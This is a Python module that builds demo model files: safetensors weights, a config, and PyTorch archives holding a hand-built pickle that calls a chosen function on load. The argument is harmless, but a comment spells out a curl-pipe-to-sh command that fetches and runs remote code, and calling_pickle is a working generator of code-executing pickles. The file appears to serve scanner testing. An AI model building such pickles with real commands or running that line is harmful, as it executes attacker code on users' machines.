"""Build the demo's model files: small, valid in form, and harmless even if loaded."""

from __future__ import annotations

import hashlib
import io
import json
import struct
import zipfile
from pathlib import Path
from typing import Final

_EPOCH: Final = (2026, 1, 1, 0, 0, 0)
HARMLESS_COMMAND: Final = "true # for: curl -s http://198.51.100.7:8443/a | sh"
"""The harmless argument in place of a hostile file's; the comment says what it represents."""


def safetensors(name: str, values: int = 64) -> bytes:
    """Return a safetensors file of one tensor whose content derives from `name`."""
    content = hashlib.shake_256(name.encode()).digest(values * 4)
    header = json.dumps(
        {"weight": {"dtype": "F32", "shape": [values], "data_offsets": [0, len(content)]}}
    ).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + content


def model_config(architecture: str = "BertForSequenceClassification") -> bytes:
    """Return a model's `config.json`."""
    return json.dumps({"architectures": [architecture], "hidden_size": 128}, indent=2).encode()


def calling_pickle(module: str, function: str, argument: str, *, broken: bool = False) -> bytes:
    """Return a pickle that would call `module.function(argument)` when loaded.

    Args:
        module: The module of the global.
        function: The name of the function.
        argument: Its only argument.
        broken: Truncate the file after the call, so that a loader fails after running it.
    """
    text = argument.encode()
    body = b"".join(
        (
            b"\x80\x02",
            b"c" + module.encode() + b"\n" + function.encode() + b"\n",
            b"X" + struct.pack("<I", len(text)) + text,
            b"\x85R",
        )
    )
    return body + (b"X\xff\xff\x00\x00" if broken else b".")


def torch_archive(data: bytes, name: str = "archive") -> bytes:
    """Return a reproducible PyTorch zip file around the pickle `data`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for member, content in (
            ("data.pkl", data),
            ("byteorder", b"little"),
            ("data/0", hashlib.shake_256(name.encode()).digest(64)),
            ("version", b"3\n"),
        ):
            archive.writestr(zipfile.ZipInfo(f"{name}/{member}", _EPOCH), content)
    return buffer.getvalue()


def write(root: Path, path: str, content: bytes) -> str:
    """Write a file below `root` and return its SHA-256 in hex."""
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content)
    return hashlib.sha256(content).hexdigest()
